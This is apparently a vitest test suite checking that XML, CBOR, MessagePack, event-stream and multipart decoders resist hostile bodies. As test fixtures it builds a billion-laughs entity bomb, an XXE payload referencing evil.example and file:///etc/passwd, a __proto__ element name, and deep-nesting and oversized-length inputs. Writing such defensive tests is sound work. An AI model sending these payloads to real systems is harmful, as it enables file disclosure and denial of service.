/** Bodies made to hurt whoever reads them: each ends soon, in bounded memory, as a tree or as text with the place. */
import { describe, expect, it } from 'vitest';
import { decoderFor } from '../../src/response/decoders/registry.ts';
import type { DecodeOutcome } from '../../src/response/decoders/decoder.ts';
import { BodyDocument } from '../../src/response/json-index/body-document.ts';

function decode(kind: string, body: string | Uint8Array): DecodeOutcome {
  const bytes = typeof body === 'string' ? new TextEncoder().encode(body) : body;
  const outcome = decoderFor(kind)?.decode(bytes, 0);
  if (!outcome) throw new Error(kind);
  return outcome;
}

function expected(kind: string, body: string | Uint8Array): string {
  const outcome = decode(kind, body);
  return outcome.ok ? 'a tree' : outcome.expected;
}

const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY lol${String(i + 1)} "${`&lol${i === 0 ? '' : String(i)};`.repeat(10)}">`,
).join('')}]><lolz>&lol9;</lolz>`;

describe('XML', () => {
  it('expands no entity: a billion laughs are five characters', () => {
    const outcome = decode('xml', laughs);
    expect(outcome.ok && new TextDecoder().decode(outcome.json)).toBe('{"lolz":"&lol9;"}');
  });

  it('reads no file and asks no server for a document type', () => {
    const outside =
      '<!DOCTYPE a SYSTEM "https://evil.example/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p; <!ENTITY f SYSTEM "file:///etc/passwd">]><a b="&f;">&f;</a>';
    const outcome = decode('xml', outside);
    expect(outcome.ok && new TextDecoder().decode(outcome.json)).toBe('{"a":{"@b":"&f;","#text":"&f;"}}');
  });

  it('is text below a million levels, with a million attributes, and with a name of a megabyte', () => {
    const deep = new BodyDocument(new TextEncoder().encode('<a>'.repeat(1_000_000)), 0, 'xml');
    expect(deep.fault()).toMatchObject({ expected: 'at most 1000 levels', name: 'XML' });
    expect(deep.lines('text', 0, 1, 80).rows).toHaveLength(1);
    const many = `<a ${Array.from({ length: 100_000 }, (_, i) => `x${String(i)}="1"`).join(' ')}/>`;
    expect(expected('xml', many)).toBe('at most 1,000 attributes');
    expect(expected('xml', `<${'n'.repeat(1_000_000)}/>`)).toBe('a tree');
    expect(expected('xml', '<!DOCTYPE a ['.repeat(50_000))).toBe('the end of the document type');
    expect(expected('xml', `<a>${'<b/>'.repeat(1_000_001)}</a>`)).toBe('at most 1,000,000 nodes');
  }, 20_000);

  it('takes names of the language for names', () => {
    const outcome = decode('xml', '<__proto__ constructor="1"><toString/></__proto__>');
    expect(outcome.ok && new TextDecoder().decode(outcome.json)).toBe(
      '{"__proto__":{"@constructor":"1","toString":""}}',
    );
  });
});

describe('CBOR and MessagePack', () => {
  it.each([
    ['cbor', 0x81, 'at most 500 levels'],
    ['cbor', 0xc0, 'at most 500 levels'],
    ['cbor', 0x9f, 'at most 500 levels'],
    ['messagepack', 0x91, 'at most 500 levels'],
  ])('%s: a million times 0x%s', (kind, byte, words) => {
    expect(expected(kind, new Uint8Array(1_000_000).fill(byte))).toBe(words);
  });

  it('believes no length', () => {
    expect(expected('cbor', Uint8Array.of(0xbb, ...Array<number>(8).fill(0xff)))).toContain('do not fit');
    expect(expected('messagepack', Uint8Array.of(0xdf, 255, 255, 255, 255))).toContain('do not fit');
    expect(expected('messagepack', Uint8Array.of(0xc6, 255, 255, 255, 255))).toBe('more bytes');
    expect(expected('cbor', new Uint8Array(33 * 1024 * 1024))).toBe('at most 32 MB');
  });

  it('does not build a number of a megabyte', () => {
    const big = new Uint8Array(1_000_006).fill(0xff);
    big.set([0xc2, 0x5a, 0x00, 0x0f, 0x42, 0x40]);
    const outcome = decode('cbor', big);
    expect(outcome.ok && new TextDecoder().decode(outcome.json.subarray(0, 20))).toBe(`{"tag":2,"value":"h'`);
  });
});

describe('events and parts', () => {
  it('ends with many', () => {
    expect(expected('events', 'data:\n'.repeat(500_000))).toBe('a tree');
    expect(expected('multipart', `${'--b\n\n'.repeat(20_000)}--b--`)).toBe('at most 10000 parts');
    expect(expected('multipart', '--\n'.repeat(200_000))).toBe('a delimiter that begins with --');
  });
});
